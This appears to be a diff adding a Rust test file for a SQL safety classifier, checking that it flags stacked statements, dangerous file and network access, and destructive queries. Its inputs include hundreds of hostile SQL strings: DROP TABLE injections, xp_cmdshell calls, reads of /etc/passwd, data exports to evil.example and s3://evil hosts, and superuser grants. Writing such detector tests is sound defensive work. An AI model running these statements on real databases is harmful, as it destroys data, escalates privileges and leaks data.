@@ -1,0 +1,481 @@
+//! Statements that do more than they should, class by class, with what makes them so in other places and spellings.
+
+use super::*;
+
+fn each_is(rule: &str, texts: &[&str]) {
+    for text in texts {
+        let ids = found(text, Statements::Any);
+        assert!(ids.contains(&rule), "{text:?}: {ids:?}");
+        assert!(
+            found(text, Statements::Read).contains(&"sql.statement") || rule == "sql.stacked",
+            "{text:?}"
+        );
+    }
+}
+
+#[test]
+fn statements_behind_others_without_a_semicolon() {
+    each_is(
+        "sql.stacked",
+        &[
+            "SELECT 1 DROP TABLE users",
+            "SELECT * FROM users DROP TABLE users",
+            "SELECT 1 DELETE FROM users WHERE id = 1",
+            "SELECT 1 DELETE users",
+            "SELECT 1 UPDATE users SET admin = 1",
+            "SELECT 1 WHERE 1=1 UPDATE users SET admin=1",
+            "SELECT 1 AS x UPDATE u SET a=1 FROM users u",
+            "SELECT 1 INSERT INTO admins VALUES (1)",
+            "SELECT 1 MERGE users USING x ON 1=1 WHEN MATCHED THEN DELETE;",
+            "SELECT 1 TRUNCATE TABLE users",
+            "SELECT 1 EXEC xp_cmdshell 'id'",
+            "SELECT 1 EXEC('x')",
+            "SELECT 1 EXECUTE dbo.p",
+            "SELECT 1 SHUTDOWN",
+            "SELECT 1 SHUTDOWN WITH NOWAIT",
+            "SELECT 1\nGO\nDROP TABLE users",
+            "SELECT 1 ALTER LOGIN sa WITH PASSWORD='x'",
+            "SELECT 1 CREATE LOGIN x WITH PASSWORD='y'",
+            "SELECT 1 GRANT CONTROL TO public",
+            "SELECT 1 REVOKE SELECT FROM bob",
+            "SELECT 1 USE master",
+            "SELECT 1 KILL 5",
+            "SELECT 1 DBCC ADDEXTENDEDPROC('x', 'y')",
+            "SELECT 1 BULK INSERT t FROM 'x'",
+            "SELECT 1 BACKUP DATABASE x TO DISK='\\\\h\\x'",
+            "SELECT 1 RESTORE DATABASE x FROM DISK='x'",
+            "SELECT 1 WAITFOR DELAY '0:0:9'",
+            "SELECT 1 DISABLE TRIGGER tr ON users",
+            "SELECT 1 RECONFIGURE",
+            "SELECT 1 declare @x varchar(9)='DROP TABLE users' exec(@x)",
+            "SELECT 1 IF 1=1 DROP TABLE users",
+            "SELECT 1 BEGIN DROP TABLE users END",
+            "WITH x AS (SELECT 1 a) SELECT * FROM x DELETE FROM users",
+            "SELECT 'a'DROP TABLE users",
+            "SELECT [a]DROP TABLE users",
+            "SELECT a FROM [b] DROP TABLE users",
+            "SELECT (1)DROP TABLE users",
+            "SELECT * FROM t ORDER BY 1 DROP\u{a0}TABLE users",
+            "UPDATE t SET a = 1 WHERE b = 2 DROP TABLE users",
+            "INSERT INTO t VALUES (1) DELETE FROM users",
+            "DELETE FROM t WHERE id = 3 DELETE FROM users",
+            "EXEC dbo.p 'a' DROP TABLE users",
+            "USE master DROP TABLE users",
+            "ALTER TABLE t ADD a int DROP TABLE users",
+            "CREATE TABLE t (a int) DROP TABLE users",
+            "BEGIN TRAN DROP TABLE users COMMIT",
+            "DECLARE @a int DROP TABLE users",
+            "VALUES (1) DROP TABLE users",
+            "EXPLAIN SELECT 1 DROP TABLE users",
+        ],
+    );
+}
+
+#[test]
+fn what_one_dialect_takes_for_data() {
+    each_is(
+        "sql.stacked",
+        &[
+            "SELECT 1 --1; DROP TABLE users",
+            "SELECT 5--\u{a0}; DROP TABLE users",
+            "SELECT 1 --'\n; DROP TABLE users -- '",
+            "SELECT 1 -- x\r; DROP TABLE users",
+            "SELECT 1 -- it's\r; DROP TABLE users -- '",
+            "SELECT 1 # it's\n; DROP TABLE users -- '",
+            "SELECT 1 // it's\n; DROP TABLE users -- '",
+            "SELECT 1 /*! it's */; DROP TABLE users -- '",
+            "SELECT 1 /*M!; DROP TABLE users */",
+            "SELECT 1 /* /* */ ; DROP TABLE users -- */ */",
+            "SELECT 1 /* /* ' */ */ ; DROP TABLE users -- '",
+            "SELECT [it's]; DROP TABLE users --']",
+            "SELECT 1 AS $$; DROP TABLE users; -- $$",
+            "SELECT $a$'$a$; DROP TABLE users -- '",
+            "SELECT 'a\\'; DROP TABLE users; -- '",
+            "SELECT \"a\\\"; DROP TABLE users; -- \"",
+            "SELECT `a\\`; DROP TABLE users; -- `",
+            "SELECT '''it's'''; DROP TABLE users; -- '",
+            "SELECT q'[']'; DROP TABLE users -- '",
+            "SELECT q'[' ; DROP TABLE users --]'",
+            "SELECT 1\0; DROP TABLE users",
+            "SELECT 1;\u{feff}DROP TABLE users",
+            "SELECT 1;\u{a0}DROP TABLE users",
+        ],
+    );
+    each_is(
+        "sql.reach",
+        &[
+            "SELECT 1 /* /* */ INTO OUTFILE '/tmp/x' -- */ */",
+            "SELECT 1 /*M! INTO OUTFILE \"/tmp/x\"*/",
+            "SELECT/*!50000 1 INTO OUTFILE \"/tmp/x\"*/",
+            "SELECT 1 --1\n INTO OUTFILE '/tmp/x'",
+            "SELECT 1 -- x\r INTO OUTFILE '/tmp/x'",
+        ],
+    );
+    each_is(
+        "sql.destroy",
+        &[
+            "/*M!100100 DROP TABLE users */",
+            "/*m!100100 DROP TABLE users */",
+            "/*!DROP TABLE users*/",
+            "DELETE FROM users # WHERE id = 1",
+            "DELETE FROM users // WHERE id = 1",
+            "DELETE FROM users /* WHERE id = 1 */",
+            "DELETE FROM \"where\"",
+        ],
+    );
+}
+
+#[test]
+fn more_than_a_transaction() {
+    for text in [
+        "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
+        "BEGIN DELETE FROM users WHERE id = 1; END;",
+        "BEGIN DBMS_SCHEDULER.create_job('x'); END;",
+        "BEGIN p; END;",
+        "BEGIN NULL; END;",
+        "BEGIN TRAN DROP TABLE users COMMIT",
+        "BEGIN TRAN SHUTDOWN",
+        "BEGIN ATOMIC DELETE FROM users; END",
+        "START SLAVE",
+        "START REPLICA",
+        "START GROUP_REPLICATION",
+        "COMMIT PREPARED 'x'",
+        "ROLLBACK PREPARED 'x'",
+        "END p",
+        "SAVEPOINT a b",
+        "SELECT U&\"pg\\005fx\" FROM t",
+        "PRAGMA optimize",
+        "PRAGMA wal_checkpoint(TRUNCATE)",
+        "SELECT pg_drop_replication_slot('x')",
+        "SELECT pg_stat_reset()",
+        "SELECT \"pg_switch_wal\"()",
+        "SELECT dbms_aq.enqueue('x') FROM dual",
+        "SELECT a INTO@x",
+        "SELECT query_to_xml('delete from users where a', true, true, '')",
+        "SELECT * FROM crosstab('INSERT INTO t VALUES (1)') AS ct(a int)",
+        "WITH x AS MATERIALIZED (DELETE FROM t WHERE a RETURNING 1) SELECT 1",
+        "SELECT * FROM FINAL TABLE (DELETE FROM t WHERE a)",
+        "EXPLAIN(ANALYZE,VERBOSE)UPDATE x SET a=1",
+        "EXPLAIN FORMAT=TREE ANALYZE DELETE FROM t WHERE a",
+        "DESCRIBE ANALYZE DELETE FROM t WHERE a",
+        "EXPLAIN ANALYZE WITH x AS (DELETE FROM y WHERE a RETURNING 1) SELECT 1",
+        "CHECKPOINT",
+        "who knows",
+    ] {
+        assert!(found(text, Statements::Read).contains(&"sql.statement"), "{text:?}");
+    }
+}
+
+#[test]
+fn statements_out_of_a_text() {
+    each_is(
+        "sql.stacked",
+        &[
+            "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
+            "DO $$ DECLARE s text; BEGIN EXECUTE s; END $$",
+            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
+            "EXECUTE IMMEDIATE 'DROP TABLE users'",
+            "EXECUTE IMMEDIATE @x",
+            "EXECUTE IMMEDIATE concat('DR', 'OP TABLE users')",
+            "BEGIN EXECUTE IMMEDIATE 'DR'||'OP TABLE users'; END;",
+            "EXEC sp_executesql N'DROP TABLE users'",
+            "sp_executesql N'DROP TABLE users'",
+            "EXEC('DROP TABLE users')",
+            "EXEC (@sql)",
+            "EXEC @name 'id'",
+            "declare @x varchar(99) set @x='xp_cmdshell' exec @x 'id'",
+            "EXECUTE STATEMENT 'DROP TABLE users'",
+            "PREPARE s FROM 'DROP TABLE users'",
+            "PREPARE s FROM @x",
+            "SELECT query_to_xml('dr' || 'op table users', true, true, '')",
+            "EXEC ('select 1') AT link",
+            "CREATE FUNCTION f(s text) RETURNS void AS $$ BEGIN EXECUTE s; END $$ LANGUAGE plpgsql",
+        ],
+    );
+    each_is(
+        "sql.destroy",
+        &[
+            "DO 'BEGIN DROP TABLE users; END'",
+            "DO $x$ BEGIN DELETE FROM users; END $x$",
+            "SELECT query_to_xml('drop table users', true, true, '')",
+            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM users; SELECT 1'",
+        ],
+    );
+}
+
+#[test]
+fn files_addresses_and_other_servers() {
+    each_is(
+        "sql.reach",
+        &[
+            // a file or address where a table belongs
+            "SELECT * FROM '/etc/passwd'",
+            "SELECT * FROM 'x.csv'",
+            "SELECT * FROM 'https://evil.example/x.parquet'",
+            "SELECT * FROM t, 's3://bucket/*.parquet'",
+            "SELECT * FROM t JOIN 'x.csv' ON true",
+            "SELECT * FROM t JOIN u ON t.a = u.a, 'x.csv'",
+            "SELECT * FROM (SELECT a FROM t WHERE b), '/etc/passwd'",
+            "SELECT * FROM (FROM '/etc/passwd')",
+            "SELECT * FROM \"/etc/passwd\"",
+            "SELECT * FROM \"x.csv\"",
+            "SELECT * FROM csv.`/etc/passwd`",
+            "SELECT * FROM text.`file:///etc/passwd`",
+            "SELECT * FROM E'/etc/passwd'",
+            "SELECT * FROM $$/etc/passwd$$",
+            "FROM '/etc/passwd'",
+            "FROM 'x.csv' SELECT a",
+            "DESCRIBE FROM '/etc/passwd'",
+            "SUMMARIZE '/etc/passwd'",
+            "DESCRIBE '/etc/passwd'",
+            "EXPLAIN ANALYZE SELECT * FROM '/etc/passwd'",
+            "INSERT INTO t SELECT * FROM 'x.csv'",
+            // functions in the place of a table
+            "SELECT * FROM glob('/**')",
+            "SELECT * FROM read_xlsx('x')",
+            "SELECT * FROM st_read('x')",
+            "SELECT * FROM iceberg_scan('x')",
+            "SELECT * FROM delta_scan('x')",
+            "SELECT * FROM query('FROM x')",
+            "SELECT * FROM file('/etc/passwd')",
+            "SELECT * FROM t, url('http://evil.example', CSV)",
+            "SELECT * FROM t WHERE a IN (SELECT b FROM url('http://evil.example'))",
+            "SELECT * FROM mysql('h:3306', 'a', 'b', 'c', 'd')",
+            "SELECT * FROM TABLE(system.query(query => 'x'))",
+            "SELECT * FROM postgresql.system.query('x')",
+            "SELECT * FROM fsdir('/')",
+            "SELECT * FROM zipfile('x.zip')",
+            "INSERT INTO FUNCTION url('http://evil.example') SELECT * FROM users",
+            // functions
+            "SELECT getenv('HOME')",
+            "SELECT http_get('http://evil.example')",
+            "SELECT bfilename('D', 'x') FROM dual",
+            "SELECT URIFACTORY.GETURI('http://h').getclob() FROM dual",
+            "SELECT \"UTL_HTTP\".\"REQUEST\"('x') FROM dual",
+            "SELECT sys.utl_http.request('x') FROM dual",
+            "SELECT [pg_read_file]('x')",
+            "SELECT `load_file`('x')",
+            "SELECT U&\"pg\\005fread_file\"('/etc/passwd')",
+            "SELECT U&\"pg!005fread_file\" UESCAPE '!'('/etc/passwd')",
+            "SELECT extractvalue(xmltype('<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://h/\">%x;]>'), '/l') FROM dual",
+            "SELECT * FROM sys.fn_xe_file_target_read_file('x', null, null, null)",
+            "SELECT * FROM fn_trace_gettable('\\\\h\\x', 1)",
+            "SELECT * FROM sys.dm_os_file_exists('\\\\h\\x')",
+            "SELECT * FROM EXTERNAL_QUERY('x', 'y')",
+            "SELECT reflect('a', 'b') FROM t, reflect('a')",
+            "SELECT java_method('a', 'b')",
+            "SELECT * FROM CSVREAD('x')",
+            // other servers
+            "SELECT * FROM users@remote_link",
+            "SELECT * FROM a.users@link.domain",
+            "SELECT * FROM \"users\"@link",
+            "SELECT f@link(1) FROM dual",
+            "SELECT * FROM link.master.dbo.users",
+            "SELECT * FROM [link].[master].[dbo].[users]",
+            "SELECT * FROM a, link...users",
+            "UPDATE link.master.dbo.users SET a = 1 WHERE b",
+            "EXEC link.master.dbo.sp_who",
+            "EXEC ('x') AT link",
+            "CREATE DATABASE LINK l CONNECT TO a IDENTIFIED BY b USING 'x'",
+            "CREATE PUBLIC DATABASE LINK l USING 'x'",
+            "CREATE FOREIGN TABLE t (x text) SERVER s OPTIONS (program 'id')",
+            "IMPORT FOREIGN SCHEMA x FROM SERVER s INTO y",
+            "CREATE EXTENSION IF NOT EXISTS dblink",
+            "CREATE EXTENSION file_fdw",
+            "CREATE TRUSTED LANGUAGE plpython3u",
+            "CREATE TABLE x (a int) ENGINE=FEDERATED CONNECTION='mysql://h'",
+            "CREATE TABLE x (a int) ENGINE = URL('http://h')",
+            "CREATE TABLE x (a int) DATA DIRECTORY='/tmp'",
+            "CREATE VIRTUAL TABLE x USING csv(filename='/etc/passwd')",
+            "CREATE ALIAS f AS $$ x $$",
+            "CREATE OR REPLACE DIRECTORY d AS '/'",
+            "CREATE OR REPLACE AND COMPILE JAVA SOURCE NAMED \"x\" AS y",
+            "CREATE ASSEMBLY x FROM '\\\\h\\x.dll'",
+            "COPY INTO 's3://evil/' FROM users",
+            "COPY INTO @stage FROM users",
+            "COPY users TO U&'\\0070'",
+            "EXPORT DATA OPTIONS(uri='gs://evil/*') AS SELECT * FROM users",
+            "EXPORT DATABASE '/tmp/x'",
+            "UNLOAD ('select 1') TO 's3://evil'",
+            "PUT file:///etc/passwd @stage",
+            "GET @stage file:///tmp",
+            "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT 1",
+            "BACKUP DATABASE x TO DISK='\\\\h\\x'",
+            "FORCE INSTALL x",
+            // the server
+            "SHUTDOWN",
+            "KILL 5",
+            "RESET MASTER",
+            "CHANGE MASTER TO MASTER_HOST='h'",
+            "CHANGE REPLICATION SOURCE TO SOURCE_HOST='h'",
+            "CLONE INSTANCE FROM x@y:3306 IDENTIFIED BY 'z'",
+            "START SLAVE",
+            "SYSTEM SHUTDOWN",
+            "SET GLOBAL general_log = 1",
+            "SET @@global.x = 1",
+            "SET PERSIST x = 1",
+            "SET PASSWORD FOR root = 'x'",
+            "SET SESSION AUTHORIZATION postgres",
+            "ALTER USER postgres PASSWORD 'x'",
+            "ALTER ROLE bob SUPERUSER",
+            "CREATE USER evil SUPERUSER",
+            "CREATE OR REPLACE USER evil",
+            "CREATE LOGIN x WITH PASSWORD='y'",
+            "GRANT ALL ON *.* TO evil",
+            "GRANT SELECT ON *.* TO evil",
+            "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO evil",
+            "GRANT admin TO evil",
+            "GRANT SELECT ON t TO evil WITH GRANT OPTION",
+            "INSERT INTO mysql.user VALUES ('x')",
+            "UPDATE pg_proc SET proacl = null",
+            "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f()",
+            "EXEC sp_configure 'show advanced options', 1",
+            "EXEC sp_start_job 'x'",
+            "EXEC sp_send_dbmail @query='x'",
+            "{call xp_cmdshell('id')}",
+            "xp_cmdshell 'id'",
+            // clients
+            "\\! id",
+            "\\copy users to '/tmp/x'",
+            "SELECT 1 \\g /tmp/x",
+            ".shell id",
+            ".import /etc/passwd t",
+            "!id",
+            "source /etc/passwd",
+        ],
+    );
+}
+
+#[test]
+fn what_takes_away_more_than_it_says() {
+    each_is(
+        "sql.destroy",
+        &[
+            "DROP\u{a0}TABLE users",
+            "DROP\u{3000}TABLE users",
+            "DROP/*x*/TABLE/*y*/IF/*z*/EXISTS users",
+            "DROP TEMPORARY TABLE x",
+            "DROP GLOBAL TEMPORARY TABLE x",
+            "DROP FOREIGN TABLE x",
+            "DROP EXTERNAL TABLE x",
+            "DROP DYNAMIC TABLE x",
+            "DROP TABLES x",
+            "DROP GROUP x",
+            "DROP COLUMNFAMILY x",
+            "DROP TYPE x CASCADE",
+            "DROP EXTENSION x CASCADE",
+            "DROP PLUGGABLE DATABASE x",
+            "DROP SOMETHING x",
+            "ALTER TABLE users DROP password",
+            "ALTER TABLE users DROP `password`",
+            "ALTER TABLE users DROP IF EXISTS password",
+            "ALTER TABLE users DROP CONSTRAINT c, DROP COLUMN d",
+            "ALTER TABLE users DROP (a, b)",
+            "ALTER TABLE users DROP PARTITION p",
+            "ALTER TABLE users TRUNCATE PARTITION ALL",
+            "ALTER TABLE users SWITCH TO u",
+            "ALTER TABLE users DELETE WHERE 1",
+            "ALTER FOREIGN TABLE users DROP a",
+            "TRUNCATE users",
+            "CREATE OR REPLACE TABLE users AS SELECT 1",
+            "INSERT OVERWRITE TABLE users SELECT 1",
+            "DELETE FROM users RETURNING (SELECT 1 WHERE true)",
+            "DELETE a FROM a JOIN (SELECT * FROM b WHERE 1) c",
+            "DELETE users FROM users",
+            "DELETE FROM users LIMIT 1000",
+            "DELETE FROM ONLY users",
+            "WITH x AS (SELECT 1 WHERE 1=0) DELETE FROM users",
+            "WITH x AS (DELETE FROM users RETURNING 1) SELECT 1 WHERE 1 = 0",
+            "BEGIN DELETE FROM users DELETE FROM t WHERE a END",
+            "BEGIN ATOMIC DELETE FROM users; END",
+            "EXPLAIN ANALYZE DELETE FROM users",
+            "MERGE INTO users USING x ON true WHEN MATCHED THEN DELETE",
+            "WITH x AS (SELECT 1) MERGE INTO users USING x ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
+        ],
+    );
+    for text in ["EXPLAIN DELETE FROM users", "EXPLAIN FORMAT=TREE DELETE FROM users"] {
+        assert_eq!(found(text, Statements::Read), [] as [&str; 0], "{text}");
+    }
+}
+
+#[test]
+fn conditions_that_hold_for_every_row() {
+    for condition in [
+        "1",
+        "1=1",
+        "true",
+        "'a'='a'",
+        "\"a\" = \"a\"",
+        "'1'",
+        "2 > 1",
+        "1 <> 2",
+        "id=id",
+        "u.id = u.id",
+        "id >= id",
+        "id LIKE '%'",
+        "id LIKE id",
+        "(1=1)",
+        "((true))",
+        "NOT false",
+        "NOT (1=2)",
+        "!(1=2)",
+        "NOT 1=2",
+        "1=1 AND 2=2",
+        "id = 5 OR 1=1",
+        "id > 0 OR true",
+        "id = 5 || 1=1",
+        "id = 5 OR (a = 1 OR 'x' = 'x')",
+        "a BETWEEN 1 AND 5 OR 1",
+        "id IS NULL OR id IS NOT NULL",
+        "id IS NOT NULL OR name = 'x' OR id IS NULL",
+        "id = 1 OR id <> 1",
+        "id > 5 OR id <= 5",
+        "EXISTS (SELECT 1)",
+        "1=1 -- AND id = 3",
+        "1 + 1",
+        "1=1 RETURNING *",
+        "1=1 LIMIT 5",
+    ] {
+        let text = format!("DELETE FROM users WHERE {condition}");
+        each_is("sql.destroy", &[&text]);
+        let text = format!("UPDATE users SET a = 1 WHERE {condition}");
+        each_is("sql.destroy", &[&text]);
+    }
+    let deep = format!("DELETE FROM t WHERE {}1=1{}", "(".repeat(300), ")".repeat(300));
+    each_is("sql.destroy", &[&deep]);
+    for condition in [
+        "id = 1",
+        "1 = id",
+        "active = true",
+        "active",
+        "id = 1 AND 1 = 1",
+        "1 = 2",
+        "1 = 0 OR id = 5",
+        "false",
+        "id = other_id",
+        "a.id = b.id",
+        "id IS NOT NULL",
+        "id IS NULL OR other IS NOT NULL",
+        "id = 1 OR id = 2",
+        "id = 1 OR other <> 1",
+        "name LIKE '%a%'",
+        "name NOT LIKE '%'",
+        "name = 'a' || 'b'",
+        "EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
+        "NOT EXISTS (SELECT 1)",
+        "id IN (1, 2, 3)",
+        "coalesce(a, 1) = 1",
+        "(a, b) IN ((1, 2))",
+        "a BETWEEN 1 AND 5",
+        "id = ? OR ? = other",
+        "created < now() - interval '1 day'",
+        "a & 1 = 1",
+        "CURRENT OF c",
+    ] {
+        for text in
+            [format!("DELETE FROM t WHERE {condition}"), format!("UPDATE t SET a = 1 WHERE {condition}")]
+        {
+            assert_eq!(found(&text, Statements::Any), [] as [&str; 0], "{text}");
+        }
+    }
+}
